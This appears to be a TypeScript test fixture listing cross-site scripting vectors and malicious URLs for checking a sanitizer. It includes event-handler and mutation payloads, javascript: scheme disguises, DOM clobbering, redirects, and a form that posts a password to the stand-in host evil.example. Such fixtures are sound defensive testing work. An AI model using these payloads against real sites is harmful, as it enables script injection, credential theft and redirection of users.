/**
 * The vectors are known ways to turn text into code. Those that run code call `pwned()`, and those
 * that load or redirect use evil.example.
 */

const evil = 'https://evil.example';

/** Script elements; a parser may treat the last as text. */
const scripts = [
  '<script>pwned()</script>',
  '<ScRiPt >pwned()</sCrIpT >',
  '<script\n>pwned()</script\n>',
  '<script/x>pwned()</script>',
  `<script src="${evil}/x.js"></script>`,
  `<script type="module">import "${evil}/x.js"; pwned()</script>`,
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<<script>pwned();//<</script>',
  '"><script>pwned()</script>',
  "'-pwned()-'",
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template><template><img src=x onerror=pwned()></template>',
  '<template shadowrootmode="open"><script>pwned()</script><img src=x onerror=pwned()></template>',
];

/** Handlers on elements that fire without a user's action, or almost. */
const handlers = [
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="pwned()"//',
  '<IMG SRC=x OnErRoR=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x onerror=&#112;wned()>',
  '<img src=x:x onerror\n=\npwned()>',
  '<img src="x` `"onerror="pwned()">',
  '<img src=`x`onerror=pwned()>',
  `<img src="${evil}/x.png" onload=pwned() onerror=pwned()>`,
  `<img srcset="${evil}/x.png 1x" src=x onerror=pwned()>`,
  '<picture><source srcset=x><img onerror=pwned() src=x></picture>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()><summary>More</summary></details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<p tabindex=1 autofocus onfocus=pwned()>Focus</p>',
  '<video src=x onerror=pwned()></video>',
  '<video><source onerror=pwned() src=x></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<object data=x onerror=pwned()></object>',
  '<marquee onstart=pwned()>Moving</marquee>',
  '<p onpointerover=pwned() onclick=pwned()>Hover</p>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=pwned()>Moves</p>',
  '<link rel=stylesheet href=x onerror=pwned()>',
  '<div popover id=pop onbeforetoggle=pwned()>Pop</div><button popovertarget=pop>Open</button>',
  '<p hidden=until-found onbeforematch=pwned()>Found</p>',
  '<xss autofocus tabindex=1 onfocus=pwned()>Custom</xss>',
];

/** SVG, MathML, and markup that changes when it is parsed a second time. */
const foreign = [
  '<svg onload=pwned()>',
  '<svg/onload=pwned()//',
  '<svg><script>pwned()</script></svg>',
  '<svg><script>&#112;wned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:pwned() /><a><text>Run</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()></svg>#x" /></svg>',
  '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<svg><p><style><g title="</style><img src=1 onerror=pwned()>">',
  '<svg><a xlink:href="javascript:pwned()"><text x=9 y=9>Run</text></a></svg>',
  '<math><a xlink:href="javascript:pwned()">Run</a></math>',
  '<math href="javascript:pwned()">Run</math>',
  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=pwned()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>',
  '<p id="</p><img src=x onerror=pwned()>">',
  '<a title="<!--"><img title="--><img src=x onerror=pwned()>"></a>',
  '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<noembed><img title="</noembed><img src onerror=pwned()>"></noembed>',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[><img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><img src=x onerror=pwned()>',
  `${'<b>'.repeat(600)}<img src=x onerror=pwned()>`,
];

/** Frames, redirects, forms and styles that load, redirect or deceive. */
const leading = [
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  `<iframe src="${evil}/frame"></iframe>`,
  '<object data="data:text/html,<script>parent.pwned()</script>"></object>',
  `<embed src="${evil}/embed.swf">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/away">`,
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  `<base href="${evil}/"><img src="x" onerror="pwned()">`,
  `<link rel=stylesheet href="${evil}/x.css"><link rel=prefetch href="${evil}/y">`,
  `<form action="${evil}/take"><input name=password><button autofocus onfocus=pwned()>Log in</button></form>`,
  '<form id=f></form><button form=f formaction="javascript:pwned()">Run</button>',
  `<style>@import "${evil}/x.css"; main{background:url(${evil}/b.png)}</style>`,
  `<p style="background:url(${evil}/b.png);position:fixed;inset:0">Over all</p>`,
  '<p style="width:expression(pwned());-moz-binding:url(x);behavior:url(x)">Old</p>',
  `<video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay></video>`,
  `<img src="http://evil.example/plain.png" alt="Plain">`,
  `<a href="${evil}/ping" ping="${evil}/p">Ping</a>`,
  '<plaintext>',
];

/** Names that code reads and that an element of the same name shadows. */
const clobbering = [
  '<p id=root>Root</p><p id=main>Main</p><p id=content>Content</p>',
  '<img name=cookie><img name=getElementById><img name=createElement><img name=body>',
  '<form name=localStorage><input name=getItem></form><a id=location></a><a id=history></a>',
  '<form id=x><input name=attributes><input name=removeChild></form>',
  '<form><input name=parentNode><input name=nodeName><input name=innerHTML></form>',
  `<a id=DOMPurify></a><a id=React></a><a id=akada href="${evil}"></a>`,
  '<p class="ant-message visually-hidden" role=alert data-scroll aria-live=assertive>Alert</p>',
];

/** Links in markup, each with another disguise of its scheme. */
const anchors = [
  '<a href="javascript:pwned()">Run</a>',
  '<a href="JaVaScRiPt:pwned()">Run</a>',
  '<a href=" &#14; javascript:pwned()">Run</a>',
  '<a href="java&#x09;script:pwned()">Run</a>',
  '<a href="java&NewLine;script&colon;pwned()">Run</a>',
  '<a href="&#106;&#97;vascript:pwned()">Run</a>',
  '<a href="javascript://%0apwned()">Run</a>',
  '<a href="vbscript:pwned()">Run</a>',
  '<a href="data:text/html,<script>opener.pwned()</script>" target=_self>Run</a>',
  '<area href="javascript:pwned()"><map><area href="javascript:pwned()"></map>',
];

/** Markup for every text that a user or the API can write. */
export const markup: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...leading,
  ...clobbering,
  ...anchors,
];

/** Invalid addresses for every address field: links, pictures, playlists. */
export const addresses: readonly string[] = [
  'javascript:pwned()',
  'JAVASCRIPT:pwned()',
  ' javascript:pwned()',
  '\u0001javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'javascript\n:pwned()',
  'javascript://https://github.com/%0apwned()',
  'javascript:pwned()//https://vimeo.com/1',
  '&#106;avascript:pwned()',
  'javascript&colon;pwned()',
  'vbscript:pwned()',
  'data:text/html,<script>opener.pwned()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'blob:https://evil.example/0b6a',
  'file:///etc/passwd',
  'view-source:https://evil.example/',
  'filesystem:https://evil.example/temporary/x',
  '//evil.example/x',
  '/\t/evil.example/x',
  '\\\\evil.example\\x',
  'http://evil.example/x.png',
  '"><img src=x onerror=pwned()>',
  '"onerror="pwned()',
  'https://www.youtube.com.evil.example/watch?v=dQw4w9WgXcQ',
  'https://evil.example/?v=dQw4w9WgXcQ&list=PL"><script>pwned()</script>',
  'https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ',
  'https://www.youtube.com/watch?v=javascript:pwned()',
];
